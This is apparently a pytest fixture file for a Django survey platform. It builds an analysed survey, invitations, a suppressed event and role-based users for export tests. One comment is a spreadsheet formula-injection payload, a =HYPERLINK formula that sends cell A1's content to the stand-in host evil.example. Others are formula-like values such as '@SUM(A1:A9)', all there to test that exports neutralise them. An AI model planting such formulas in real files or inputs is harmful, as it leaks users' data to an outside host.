"""A fixed, analysed survey for the export tests: three responses (one to an invitation, with the
respondent's email and phone), comments that look like spreadsheet formulas, an invitation that
was only sent and one suppressed event; users of every role; exports written to a temporary
folder."""

import datetime as dt
import uuid

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from analysis.services import response_analyse
from responses.models import Answer, Invitation, Response, Suppression
from responses.services.answering import response_context_for_invitation
from tests.analysis.platform_factories import BASE, analysed_survey, completed
from tests.factories import UserFactory
from tests.responses.factories import EventFactory, InvitationFactory, RespondentFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
RESPONSE_IDS = [
    uuid.UUID("00000000-0000-4000-8000-000000000001"),
    uuid.UUID("00000000-0000-4000-8000-000000000002"),
    uuid.UUID("00000000-0000-4000-8000-000000000003"),
]
ROLES = ("process_owners", "survey_designers", "viewers")


@pytest.fixture(autouse=True)
def _exports_root(settings, tmp_path):
    settings.EXPORTS_ROOT = tmp_path / "exports"


def _invited_response(version, *, nps: int, why: str, reason: str, when: dt.datetime) -> Response:
    respondent = RespondentFactory(ref="c-0001", email="li.lei@example.com", phone="+8613800000001")
    event = EventFactory(respondent=respondent, attributes={"city": "上海", "district_type": "office"})
    invitation = InvitationFactory(
        survey_version=version,
        event=event,
        channel="email",
        status=Invitation.Status.COMPLETED,
        sent_at=when - dt.timedelta(hours=1),
        opened_at=when - dt.timedelta(minutes=30),
        started_at=when - dt.timedelta(minutes=20),
        completed_at=when,
    )
    response = Response.objects.create(
        public_id=RESPONSE_IDS[0],
        survey=version.survey,
        survey_version=version,
        invitation=invitation,
        locale="zh-hans",
        status=Response.Status.COMPLETED,
        context=response_context_for_invitation(invitation),
        started_at=when,
        updated_at=when,
        completed_at=when,
    )
    Answer.objects.bulk_create(
        [
            Answer(response=response, question_key=key, value=value, updated_at=when)
            for key, value in {"nps": nps, "reason": reason, "why": why}.items()
        ]
    )
    return response


@pytest.fixture
def world(db) -> dict:
    survey, version = analysed_survey("after-delivery")
    first = _invited_response(version, nps=2, why="送餐太慢了，饭都凉了", reason="late", when=BASE)
    second = completed(
        version,
        nps=6,
        why=HYPERLINK,
        praise="+1",
        attributes={"city": "北京", "store_id": "1024"},
        completed_at=BASE + dt.timedelta(days=1),
    )
    third = completed(
        version,
        nps=10,
        why="@SUM(A1:A9)",
        praise="-2",
        attributes={"city": "上海"},
        completed_at=BASE + dt.timedelta(days=2),
        locale="en",
    )
    Response.objects.filter(pk=second.pk).update(public_id=RESPONSE_IDS[1])
    Response.objects.filter(pk=third.pk).update(public_id=RESPONSE_IDS[2])
    for response in (first, second, third):
        response_analyse(response_id=response.pk)
    # the funnel: one invitation only sent (by SMS), one event suppressed for fatigue
    InvitationFactory(
        survey_version=version, channel="sms", status=Invitation.Status.SENT, sent_at=timezone.now()
    )
    suppressed = EventFactory()
    Suppression.objects.create(
        event=suppressed, respondent=suppressed.respondent, survey=survey, reason=Suppression.Reason.FATIGUE
    )
    return {"survey": survey, "version": version}


def client_for(role: str) -> tuple[APIClient, object]:
    if role == "superuser":
        user = UserFactory(username="root", is_superuser=True)
    else:
        user = UserFactory(username=role, groups=[role] if role != "nobody" else [])
    client = APIClient()
    client.force_authenticate(user)
    return client, user


@pytest.fixture
def owner() -> tuple[APIClient, object]:
    return client_for("process_owners")
